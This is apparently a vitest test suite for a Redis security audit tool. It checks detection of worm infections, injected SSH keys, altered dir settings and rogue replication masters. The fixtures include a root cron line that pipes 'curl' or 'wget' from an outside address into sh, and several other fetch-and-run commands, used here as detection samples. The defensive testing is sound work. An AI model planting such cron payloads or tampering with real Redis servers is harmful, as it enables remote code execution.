import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { valueFingerprint } from '../src/content/fingerprint.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { audit } from './peers/hostile-audit.ts';
import { testIndicator, testKnowledge } from './peers/hostile-knowledge.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';

async function realRedis(...settings: string[]): Promise<RealRedis> {
  const server = await startRedis(...settings);
  onTestFinished(() => server.stop());
  return server;
}
const rulesOf = (report: AuditReport): string[] => report.findings.map(({ rule }) => rule);
const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/b2f628/init.sh | sh\n\n';
const SSH = '\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x@y\n\n\n';

describe('an infected server', () => {
  test('with the backup keys of a worm is attacked, and the campaign is named', async () => {
    const server = await realRedis();
    await server.client.mset('backup1', CRON, 'backup2', CRON.replace('curl', 'wget'), 'honest', 'value');

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.axes.infected.because).toMatch(
      /^Attacked: .*db0\/backup1.*dir, dbfilename and master show no change/,
    );
    expect(report.counts).toMatchObject({ maliciousKeys: 2, maliciousValues: 2 });
    expect(report.campaigns).toEqual([
      { id: 'pnscan-backup', title: 'Backup keys', because: 'path: /b2f628/ (db0/backup1)' },
    ]);
    expect(report.findings[0]).toMatchObject({ rule: 'test.cron', severity: 'critical', vantage: 'audit' });
  });

  test('with an SSH key behind a known name is attacked', async () => {
    const server = await realRedis();
    await server.client.select(7);
    await server.client.set('crackit', SSH);

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.findings.find(({ rule }) => rule === 'test.ssh-key')?.evidence[0]?.event).toBe(
      'db7/crackit',
    );
    expect(report.counts.maliciousKeys).toBe(1);
  });

  test.for([
    ['a list', (server: RealRedis) => server.client.rpush('jobs', 'a', CRON)],
    ['a set', (server: RealRedis) => server.client.sadd('jobs', 'a', CRON)],
    ['a hash', (server: RealRedis) => server.client.hset('jobs', 'a', CRON)],
    ['a sorted set', (server: RealRedis) => server.client.zadd('jobs', 1, CRON)],
    ['a stream', (server: RealRedis) => server.client.xadd('jobs', '*', 'a', CRON)],
    [
      'the end of a long string',
      (server: RealRedis) => server.client.set('jobs', `${'x'.repeat(100_000)}${CRON}`),
    ],
  ] as const)('is told by a value in %s', async ([, write]) => {
    const server = await realRedis();
    await write(server);

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts.maliciousValues).toBe(1);
  });

  test('is found among more keys than are read, by its name', async () => {
    const server = await realRedis();
    const pipeline = server.client.pipeline();
    for (let at = 0; at < 3_000; at++) pipeline.set(`honest:${at}`, 'value');
    await pipeline.set('crackit', SSH).exec();

    const report = await audit(`127.0.0.1:${server.port}`, {
      limits: { allNames: 1_000, sampledNames: 500, values: 50 },
    });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts.valuesRead).toBe(51);
    expect(report.notTested.join()).toMatch(/key names: \d+ of 3001 were seen/);
  });

  test('whose dir was changed is tampered with; once it has saved there, code likely ran', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'sundew-cron-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const server = await realRedis('--enable-protected-configs', 'yes');
    await server.client.config('SET', 'dir', folder);

    const changed = await audit(`127.0.0.1:${server.port}`);
    // LASTSAVE counts seconds, and at start it is the time of the start.
    await expect
      .poll(async () => /uptime_in_seconds:[3-9]/.test(await server.client.info('server')), {
        timeout: 15_000,
      })
      .toBe(true);
    await server.client.save();
    const saved = await audit(`127.0.0.1:${server.port}`);

    expect(changed.axes.infected.because).toMatch(/^Tampered with: .*CONFIG GET dir/);
    expect(rulesOf(changed)).toContain('test.dir');
    expect(saved.axes.infected.because).toMatch(/^Code execution likely: .*test.save \(INFO persistence\)/);
  });

  test('that replicates from a public address is tampered with; from the own network it is not', async () => {
    const server = await realRedis();
    await server.client.replicaof('203.0.113.77', 8886);
    const foreign = await audit(`127.0.0.1:${server.port}`);
    await server.client.replicaof('127.0.0.1', 1);
    const own = await audit(`127.0.0.1:${server.port}`);

    expect(foreign.axes.infected.because).toMatch(/^Tampered with/);
    expect(foreign.server?.role).toBe('slave');
    expect(own.axes.infected.answer).toBe('no');
  });
});

describe('a clean server', () => {
  test('with the data of honest applications is not infected', async () => {
    const server = await realRedis();
    const { client } = server;
    await client.rpush('bull:backup:wait', '1', '2');
    await client.hset('bull:backup:1', { name: 'nightly', data: '{"cmd":"pg_dump | gzip"}', opts: '{}' });
    await client.zadd('bull:mail:repeat', 1, '{"cron":"*/5 * * * *","name":"digest"}');
    await client.sadd('queues', 'default', 'mailers');
    await client.lpush(
      'queue:default',
      '{"class":"BackupWorker","args":["s3://bucket"],"jid":"b4a577edbccf1d805744efa9"}',
    );
    await client.set('stat:processed', '1002');
    await client.set(
      'wp:options:alloptions',
      'a:2:{s:7:"siteurl";s:22:"https://wp.example.com";s:4:"cron";s:2:"ok";}',
    );
    await client.set(
      'wp:1:posts:9',
      'O:8:"stdClass":1:{s:12:"post_content";s:42:"<p>Write <?php echo 1; ?> like this</p>";}',
    );
    await client.set('traefik/http/routers/web/rule', 'Host(`www.example.com`)');
    await client.set('celery-task-meta-1', '{"status": "SUCCESS", "result": null}');
    await client.eval("return redis.call('get', KEYS[1])", 1, 'stat:processed');

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected).toMatchObject({ answer: 'no' });
    expect(report.axes.leaking.answer).toBe('no');
    expect(report.axes.vulnerable.answer).toBe('no');
    expect(report.counts).toEqual({ keysSeen: 10, valuesRead: 10, maliciousKeys: 0, maliciousValues: 0 });
  });

  test('whose one key bears a known name by chance only gets a low finding', async () => {
    const server = await realRedis();
    await server.client.set('backup1', 's3://bucket/2026-11-24.tar.gz');

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected.answer).toBe('no');
    expect(report.findings.find(({ rule }) => rule === 'audit.infected.campaign-keys')?.severity).toBe('low');
    expect(report.counts.maliciousKeys).toBe(1);
  });

  test('without keys is told so', async () => {
    const server = await realRedis();

    const report = await audit(`127.0.0.1:${server.port}`);

    expect(report.axes.infected.because).toContain('it holds no keys');
    expect(report.axes.exposed.because).toContain('listens on loopback only');
  });
});

describe('what our sensors learnt', () => {
  const VALUE = 'loader of nobody knows whom, version 7';
  const learnt = (...indicators: Parameters<typeof testIndicator>[0][]): ReturnType<typeof testKnowledge> =>
    testKnowledge(indicators.map(testIndicator));

  test('makes a value that no rule knows an infection, and says where it was seen', async () => {
    const server = await realRedis();
    await server.client.set('zq81', `\n\n${VALUE}\n`);
    const knowledge = learnt({
      kind: 'value',
      value: valueFingerprint(VALUE),
      sessions: ['a', 'b', 'c'],
      campaign: 'unnamed-1234abcd',
    });

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.axes.infected.because).toContain(
      'our sensor saw the value of db0/zq81 in 3 sessions, last 2026-11-24 10:00 UTC, campaign unnamed-1234abcd',
    );
    expect(report.campaigns.map(({ id }) => id)).toEqual(['unnamed-1234abcd']);
    expect(report.counts).toMatchObject({ maliciousKeys: 0, maliciousValues: 1 });
  });

  test('of a key and its value together is enough, of either alone it is not', async () => {
    const server = await realRedis();
    await server.client.mset('zq81-owner', VALUE, 'other-zq81', 'something else');
    const value = { kind: 'value', value: valueFingerprint(VALUE), confidence: 0.4 } as const;
    const key = { kind: 'key', value: 'zq81-owner', confidence: 0.4 } as const;

    const both = await audit(`127.0.0.1:${server.port}`, { knowledge: learnt(value, key) });
    const strangers = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt(value, { ...key, sessions: ['s2'] }),
    });
    const valueOnly = await audit(`127.0.0.1:${server.port}`, { knowledge: learnt(value) });
    const keyOnly = await audit(`127.0.0.1:${server.port}`, { knowledge: learnt({ ...key, confidence: 1 }) });

    expect(both.axes.infected.answer).toBe('yes');
    expect(both.counts).toMatchObject({ maliciousKeys: 1, maliciousValues: 1 });
    expect([strangers, valueOnly, keyOnly].map(({ axes }) => axes.infected.answer)).toEqual([
      'no',
      'no',
      'no',
    ]);
    expect(keyOnly.findings.find(({ rule }) => rule === 'audit.infected.learnt-key')).toMatchObject({
      severity: 'low',
    });
    expect(keyOnly.counts.maliciousKeys).toBe(0);
  });

  test('of two strange keys of one visit is enough when both hold commands', async () => {
    const server = await realRedis();
    await server.client.mset('zq81-a', 'nohup /tmp/zq &', 'zq81-b', '\n\nzq was here\n', 'zq81-d', '{"a":1}');
    await server.client.lpush('zq81-c', 'nohup /tmp/zq &');
    const key = (value: string, session: string): Parameters<typeof testIndicator>[0] => ({
      kind: 'key',
      value,
      confidence: 0.4,
      sessions: [session],
    });

    const together = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt(key('zq81-a', 's'), key('zq81-b', 's')),
    });
    const apart = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt(key('zq81-a', 's'), key('zq81-b', 't')),
    });
    const list = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt(key('zq81-a', 's'), key('zq81-c', 's'), key('zq81-d', 's')),
    });

    expect(together.axes.infected.answer).toBe('yes');
    expect(together.counts.maliciousKeys).toBe(2);
    expect([apart, list].map(({ axes }) => axes.infected.answer)).toEqual(['no', 'no']);
  });

  test('cannot be turned against servers that use ordinary names', async () => {
    const server = await realRedis();
    await server.client.mset('bull:mail:id', '7', 'celery', 'x', 'laravel_cache:a', 'y');
    const poison = ['bull:mail:id', 'celery', 'laravel_cache:a'].map(
      (value) => ({ kind: 'key', value, confidence: 1 }) as const,
    );

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: learnt(...poison) });

    expect(report.axes.infected.answer).toBe('no');
    expect(rulesOf(report).filter((rule) => rule.startsWith('audit.infected'))).toEqual([]);
  });

  test('of a URL in a command is strong, of an address in it weak', async () => {
    const server = await realRedis();
    await server.client.set('note', 'sh -x zq.sh http://203.0.113.9/zq.sh 198.51.100.20');

    const url = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt({ kind: 'url', value: 'http://203.0.113.9/zq.sh' }),
    });
    const address = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt({ kind: 'address', value: '198.51.100.20' }),
    });

    expect(url.axes.infected.answer).toBe('yes');
    expect(address.axes.infected.answer).toBe('no');
    expect(address.findings.find(({ rule }) => rule === 'audit.infected.learnt-address')?.severity).toBe(
      'low',
    );
  });

  test('of a master is strong, also when it has a name', async () => {
    const server = await realRedis();
    await server.client.replicaof('rogue.example.invalid', 8886);

    const report = await audit(`127.0.0.1:${server.port}`, {
      knowledge: learnt({ kind: 'endpoint', value: 'rogue.example.invalid:8886' }),
    });

    expect(report.axes.infected.because).toMatch(
      /^Tampered with: our sensor saw its master rogue.example.invalid:8886/,
    );
  });
});
